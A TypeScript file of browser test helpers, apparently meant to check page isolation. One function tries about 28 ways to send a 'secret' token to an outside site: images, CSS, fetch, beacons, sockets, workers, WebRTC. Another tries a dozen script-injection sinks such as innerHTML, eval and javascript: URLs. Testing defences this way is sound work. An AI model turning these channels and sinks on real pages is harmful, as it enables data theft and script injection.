// Each function is sent to the browser by itself, with all that it needs inside.
// oxlint-disable unicorn/consistent-function-scoping
/** What a script in a page could do to send something away: each is tried in the page itself. */
export interface WaysOut {
  /** Where the other site listens, and where it can be called. */
  site: string;
  called: string;
}

/**
 * Runs in the browser: tries every way, and returns once each has had its answer or refusal. The
 * other site hears the name of each that came through.
 */
export async function tryEveryWay({ site, called }: WaysOut): Promise<void> {
  await new Promise((resolve) => setTimeout(resolve));
  const to = (name: string) => `${site}/${name}?token=secret`;
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  const link = (rel: string, more: Record<string, string> = {}) =>
    add("link", { rel, href: to(`link-${rel}`), ...more });
  const style = (text: string) => void (add("style", {}).textContent = text);
  const ways: (() => unknown)[] = [
    () => (new Image().src = to("image")),
    () => add("img", { srcset: `${to("srcset")} 1x` }),
    () => add("input", { type: "image", src: to("input") }),
    () => add("div", { style: `background: url("${to("background")}"); height: 9px` }),
    () => style(`body::after { content: url("${to("style-image")}") }`),
    () => style(`@import url("${to("style-import")}");`),
    () => add("link", { rel: "stylesheet", href: to("stylesheet") }),
    () => new FontFace("Stolen", `url("${to("font")}")`).load(),
    () => add("video", { poster: to("poster"), src: to("video") }),
    () => add("audio", { src: to("audio"), preload: "auto" }),
    () => fetch(to("fetch"), { mode: "no-cors", keepalive: true }),
    () => {
      const request = new XMLHttpRequest();
      request.open("POST", to("xhr"));
      request.send("secret");
    },
    () => navigator.sendBeacon(to("beacon"), "secret"),
    () => new EventSource(to("events")),
    () => new WebSocket(to("socket").replace("http", "ws")),
    () => add("iframe", { src: to("frame") }),
    () => add("object", { data: to("object") }),
    () => add("embed", { src: to("embed") }),
    () => {
      add("iframe", { name: "form" });
      const form = add("form", { action: to("form"), target: "form", method: "post" });
      (form as HTMLFormElement).submit();
    },
    () => add("a", { href: "#pinged", ping: to("ping") }).click(),
    () => add("script", { src: to("script") }),
    () => add("script", { src: to("module"), type: "module" }),
    () => new Worker(URL.createObjectURL(new Blob([`fetch("${to("worker")}")`]))),
    () => new SharedWorker(`data:text/javascript,fetch("${to("shared-worker")}")`),
    () => link("prefetch"),
    () => link("preload", { as: "image" }),
    () => link("modulepreload"),
    () => {
      const urls = `turn:${called.replace("http://", "")}?transport=tcp`;
      const peer = new RTCPeerConnection({
        iceServers: [{ urls, username: "secret", credential: "secret" }],
      });
      peer.createDataChannel("out");
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    },
  ];
  await Promise.allSettled(ways.map(async (way) => way()));
}

/** Runs in the browser: what came in as text tries to become a script. Returns what ran. */
export async function tryToRun(): Promise<string[]> {
  // Until then a browser allows its debugger, which runs this, more than a page.
  await new Promise((resolve) => setTimeout(resolve));
  const ran: string[] = [];
  Object.assign(window, { ran });
  const code = (name: string) => `window.ran.push("${name}")`;
  const set = (tag: string, name: string, value: string, more: Record<string, string> = {}) => {
    const element = document.createElement(tag);
    for (const [key, text] of Object.entries(more)) element.setAttribute(key, text);
    document.body.append(element);
    element.setAttribute(name, value);
    return element;
  };
  const markup = `<img src="data:," onerror='${code("markup")}'><script>${code("script")}</script>`;
  const ways: (() => unknown)[] = [
    () => (document.createElement("div").innerHTML = markup),
    () => document.body.insertAdjacentHTML("beforeend", markup),
    () => document.body.append(document.createRange().createContextualFragment(markup)),
    () => document.write(markup),
    () => set("img", "onerror", code("handler"), { src: "data:," }),
    () => set("iframe", "srcdoc", `<script>parent.${code("srcdoc")}</script>`),
    () => set("iframe", "src", `javascript:parent.${code("frame address")}`),
    () => set("a", "href", `javascript:${code("address")}`).click(),
    () =>
      document.body.append(
        Object.assign(document.createElement("script"), { text: code("inline") }),
      ),
    () => set("script", "src", `data:text/javascript,${code("data")}`),
    // oxlint-disable-next-line no-eval
    () => (0, eval)(code("eval")),
    // oxlint-disable-next-line no-implied-eval
    () => setTimeout(code("timer")),
  ];
  await Promise.allSettled(ways.map(async (way) => way()));
  await new Promise((resolve) => setTimeout(resolve, 300));
  return [...new Set(ran)].toSorted();
}
